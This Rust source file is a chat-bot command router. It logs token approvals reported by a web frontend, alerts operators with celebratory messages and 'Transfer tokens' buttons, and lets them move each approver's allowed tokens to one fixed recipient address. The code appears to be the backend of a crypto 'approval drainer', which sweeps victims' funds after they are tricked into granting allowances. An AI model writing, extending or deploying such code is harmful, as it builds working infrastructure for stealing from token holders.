//! Routes approval reports and operator actions to the ledger and orchestrator,
//! and renders every outcome back to the messaging channel.

use std::sync::Arc;

use chrono::Utc;

use crate::errors::AppError;
use crate::models::approval::{ApprovalReport, StatusResult, TransferOutcome};
use crate::notification::action::{Action, Command, MAX_TOKEN_LEN};
use crate::notification::{DeliveryError, InboundEvent, NotificationChannel, OutboundMessage};
use crate::store::ledger::ApprovalLedger;
use crate::transfer::TransferOrchestrator;

#[derive(Debug, Clone)]
pub struct RouterSettings {
    /// Chat receiving new-approval notifications.
    pub notify_chat: String,
    /// Chats allowed to issue commands and press buttons.
    pub operator_chats: Vec<String>,
    /// Destination of every transfer.
    pub recipient: String,
    pub fee_limit: u64,
    pub token_symbol: String,
}

pub struct CommandRouter {
    ledger: ApprovalLedger,
    orchestrator: Arc<TransferOrchestrator>,
    channel: Arc<dyn NotificationChannel>,
    settings: RouterSettings,
}

impl CommandRouter {
    pub fn new(
        ledger: ApprovalLedger,
        orchestrator: Arc<TransferOrchestrator>,
        channel: Arc<dyn NotificationChannel>,
        settings: RouterSettings,
    ) -> Self {
        Self {
            ledger,
            orchestrator,
            channel,
            settings,
        }
    }

    /// Record an approval reported by the frontend and notify the operators.
    pub async fn handle_report(&self, report: ApprovalReport) -> Result<(), AppError> {
        let address = report.user_address.trim();
        let tx_hash = report.transaction_hash.trim();
        if address.is_empty() {
            return Err(AppError::InvalidReport("userAddress is required".into()));
        }
        if tx_hash.is_empty() {
            return Err(AppError::InvalidReport("transactionHash is required".into()));
        }
        if !Action::Transfer(address.to_string()).fits_button() {
            return Err(AppError::InvalidReport(format!(
                "userAddress is longer than {} bytes",
                MAX_TOKEN_LEN - "transfer:".len()
            )));
        }

        let reported_at = report.reported_at(Utc::now());
        let amount = report.approved_amount.to_string();
        tracing::info!(address, tx_hash, amount = %amount, "approval reported");

        self.ledger.record(address, tx_hash, &amount, reported_at).await;

        let symbol = &self.settings.token_symbol;
        let text = format!(
            "🎉 New {symbol} approval\n\n\
             Address: {address}\n\
             Transaction: {tx_hash}\n\
             Approved amount: {} {symbol}\n\
             Time: {}",
            display_amount(&amount),
            reported_at.format("%Y-%m-%d %H:%M:%S UTC"),
        );
        let message = OutboundMessage::text(text)
            .with_button("Transfer tokens", Action::Transfer(address.to_string()))
            .with_button("Check balance", Action::Balance(address.to_string()));

        self.channel
            .notify(&self.settings.notify_chat, &message)
            .await?;
        Ok(())
    }

    /// Handle one event from the messaging transport.
    ///
    /// Events from chats outside `operator_chats` are dropped. The only error
    /// returned is a failure to deliver the reply.
    pub async fn handle_event(&self, event: InboundEvent) -> Result<(), DeliveryError> {
        if !self.is_operator(event.chat_id()) {
            tracing::warn!(chat_id = event.chat_id(), "ignoring event from unauthorized chat");
            return Ok(());
        }

        match event {
            InboundEvent::Command { chat_id, text } => self.handle_command(&chat_id, &text).await,
            InboundEvent::Callback {
                chat_id,
                callback_id,
                data,
            } => {
                if let Err(e) = self.channel.acknowledge(&callback_id).await {
                    tracing::warn!(error = %e, "failed to acknowledge callback");
                }
                match Action::decode(&data) {
                    Some(action) => self.dispatch(&chat_id, action).await,
                    None => {
                        tracing::warn!(data = %data, "unrecognized callback token");
                        Ok(())
                    }
                }
            }
        }
    }

    async fn handle_command(&self, chat_id: &str, text: &str) -> Result<(), DeliveryError> {
        let Some(command) = Command::parse(text) else {
            return Ok(());
        };
        tracing::debug!(chat_id, ?command, "operator command");

        let reply = match command {
            Command::Start => self.help_text(),
            Command::List => self.render_list().await,
            Command::Usage(usage) => format!("Usage: {}", usage),
            Command::Run(action) => return self.dispatch(chat_id, action).await,
        };
        self.channel
            .notify(chat_id, &OutboundMessage::text(reply))
            .await
    }

    /// Execute a transfer or balance action and reply with the outcome.
    pub async fn dispatch(&self, chat_id: &str, action: Action) -> Result<(), DeliveryError> {
        let text = match &action {
            Action::Transfer(address) => {
                let progress = move || async move { self.notify_progress(chat_id, address).await };
                let result = self
                    .orchestrator
                    .execute_transfer_with(
                        address,
                        &self.settings.recipient,
                        self.settings.fee_limit,
                        progress,
                    )
                    .await;
                self.render_transfer(address, result)
            }
            Action::Balance(address) => {
                let result = self.orchestrator.query_status(address).await;
                self.render_status(address, result)
            }
        };
        self.channel
            .notify(chat_id, &OutboundMessage::text(text))
            .await
    }

    /// Sent once the approval is known to be eligible; the transfer itself
    /// takes several node round trips.
    async fn notify_progress(&self, chat_id: &str, address: &str) {
        let text = format!(
            "⏳ Transferring {} from {}...",
            self.settings.token_symbol, address
        );
        if let Err(e) = self
            .channel
            .notify(chat_id, &OutboundMessage::text(text))
            .await
        {
            tracing::warn!(chat_id, address, error = %e, "failed to send progress message");
        }
    }

    fn is_operator(&self, chat_id: &str) -> bool {
        self.settings.operator_chats.iter().any(|c| c == chat_id)
    }

    fn help_text(&self) -> String {
        format!(
            "🤖 {} relay bot is running\n\n\
             Commands:\n\
             /transfer <address> - transfer the approved tokens of an address\n\
             /balance <address> - show balance and allowance of an address\n\
             /list - list all reported approvals",
            self.settings.token_symbol
        )
    }

    async fn render_list(&self) -> String {
        let entries = self.ledger.list().await;
        if entries.is_empty() {
            return "No approval records yet.".to_string();
        }

        let mut text = String::from("Approved addresses:\n\n");
        for entry in entries {
            let status = if entry.record.processed {
                "✅ processed"
            } else {
                "⏳ pending"
            };
            text.push_str(&format!(
                "{}. {} - {} {} - {}\n",
                entry.index,
                entry.address,
                display_amount(&entry.record.approved_amount),
                self.settings.token_symbol,
                status
            ));
        }
        text
    }

    fn render_transfer(&self, address: &str, result: Result<TransferOutcome, AppError>) -> String {
        let symbol = &self.settings.token_symbol;
        match result {
            Ok(TransferOutcome::Transferred(receipt)) => format!(
                "✅ Transfer succeeded\nAddress: {address}\nAmount: {:.4} {symbol}\nTransaction: {}",
                receipt.amount, receipt.transaction_id
            ),
            Ok(TransferOutcome::NothingToTransfer { allowance, balance }) => format!(
                "Nothing to transfer from {address}\nAllowance: {:.4} {symbol}\nBalance: {:.4} {symbol}",
                allowance, balance
            ),
            Err(AppError::UnknownAddress(_)) => {
                format!("No approval recorded for {address}")
            }
            Err(AppError::AlreadyProcessed(_)) => {
                format!("Tokens from {address} have already been transferred")
            }
            Err(AppError::TransferExecution(cause)) => {
                tracing::error!(address, error = %cause, "transfer failed");
                format!("❌ Transfer failed for {address}: {cause}")
            }
            Err(e) => {
                tracing::error!(address, error = %e, "transfer failed");
                format!("❌ Transfer failed for {address}: {e}")
            }
        }
    }

    fn render_status(&self, address: &str, result: Result<StatusResult, AppError>) -> String {
        let symbol = &self.settings.token_symbol;
        match result {
            Ok(status) => format!(
                "{symbol} status for {address}:\n\nBalance: {:.4} {symbol}\nAllowance: {:.4} {symbol}",
                status.balance, status.allowance
            ),
            Err(e) => {
                tracing::warn!(address, error = %e, "balance query failed");
                format!("❌ Balance query failed for {address}: {e}")
            }
        }
    }
}

fn display_amount(amount: &str) -> &str {
    if amount.is_empty() {
        "?"
    } else {
        amount
    }
}
